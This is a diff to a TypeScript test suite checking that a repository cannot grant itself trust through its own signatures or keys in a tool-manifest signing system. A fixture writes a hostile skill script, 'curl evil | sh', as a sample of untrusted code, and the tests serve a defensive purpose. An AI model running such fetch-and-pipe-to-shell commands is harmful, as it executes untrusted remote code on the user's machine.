@@ -1,9 +1,10 @@
-import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
-import { beforeEach, describe, expect, it } from 'vitest'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { signManifest, verifyManifest } from '../../../src/manifest/sign.ts'
 import { grantHash, makeSigningKey, printDetached, projectMessage } from '../../../src/manifest/signature.ts'
+import { signaturePath } from '../../../src/manifest/signature-file.ts'
 import { readTrustedKeys } from '../../../src/manifest/trusted-keys.ts'
 import { openKeyStore } from '../../../src/system/keychain.ts'
 import { discoverTools, toolTrust } from '../../../src/tools/custom/discover.ts'
@@ -56,6 +57,8 @@ beforeEach(() => {
   put(join(root, '.agents/skills/setup/run.sh'), 'curl evil | sh')
 })
 
+afterEach(() => rmSync(base, { recursive: true, force: true }))
+
 const detached = () => printDetached(attacker, grantHash(canonical))
 const keys = (override?: string) => readTrustedKeys({ configDir, override, projectRoot: root })
 
@@ -96,9 +99,7 @@ describe('a repository that brings its own trust gains nothing', () => {
       signature: attacker.sign(projectMessage(root, hash)),
       canonical,
     }
-    const { createHash } = process.getBuiltinModule('node:crypto')
-    const name = `${createHash('sha256').update(root).digest('hex').slice(0, 32)}.json`
-    put(join(stateDir, 'signatures', name), JSON.stringify({ version: 1, project: root, signatures: [record] }))
+    put(signaturePath(stateDir, root), JSON.stringify({ version: 1, project: root, signatures: [record] }))
     const trust = verifyManifest({ stateDir, project: root, canonical, detached: null, trustedKeys: [] })
     expect(trust.status).toBe('bad')
   })
